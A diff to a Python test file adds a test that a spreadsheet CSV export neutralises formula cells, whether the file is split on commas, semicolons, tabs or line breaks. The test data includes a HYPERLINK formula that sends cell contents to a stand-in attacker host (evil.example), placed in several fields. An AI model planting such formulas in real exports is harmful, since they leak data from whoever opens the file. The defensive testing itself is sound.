@@ -6,6 +6,7 @@ import codecs
 import csv
 import io
 import json
+import re
 import shutil
 import subprocess
 import xml.etree.ElementTree as ET
@@ -94,6 +95,31 @@ def test_the_spreadsheet_csv_neutralises_cells_a_spreadsheet_would_run_as_formul
     # "\r=..." lose their start (sync/fields.py); the others keep it, behind an apostrophe.
     assert cells["note"] == (attack.strip() if start.isspace() else "'" + attack)
     assert cells["walker"] == f"'{start}evil"
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
+def test_no_cell_of_the_spreadsheet_csv_is_a_formula_however_a_spreadsheet_splits_it(
+    client, group, add_observation, start
+):
+    """A spreadsheet splitting on commas (an English-locale Excel) or tabs does not see the
+    file's quotes, and starts a row at each line break: a formula after one of those in a text
+    was a cell of its own there, run when the organiser opened the file."""
+    attack = f'{start}HYPERLINK("http://evil.example/?"&A1,"open")'
+    add_observation(
+        group, -1.5536, 47.2184, operator=f"Mairie,{attack}", model=f"X11;{attack}",
+        note=f"vue du quai\n{attack}", manufacturer=f"Axis\t{attack}",
+    )  # fmt: skip
+
+    _, data = download(client, group, "&spreadsheet=1")
+
+    (cells,) = spreadsheet_rows(data)  # read as it is written: ";" and quotes
+    assert cells["operator"] == f"Mairie,'{attack}"
+    assert cells["note"] == f"vue du quai\n'{attack}"
+    # Each piece any way of splitting could make a cell of, quotes or not.
+    pieces = re.split(r"[,;\t\r\n]", data.decode("utf-8-sig"))
+    attacks = [piece for piece in pieces if "HYPERLINK" in piece]
+    assert len(attacks) == 7  # four texts, and the OSM tags of three (a note has none)
+    assert [piece for piece in attacks if piece.startswith(start)] == []
 
 
 def test_data_that_looks_like_a_formula_is_guarded_in_the_spreadsheet_csv_only(
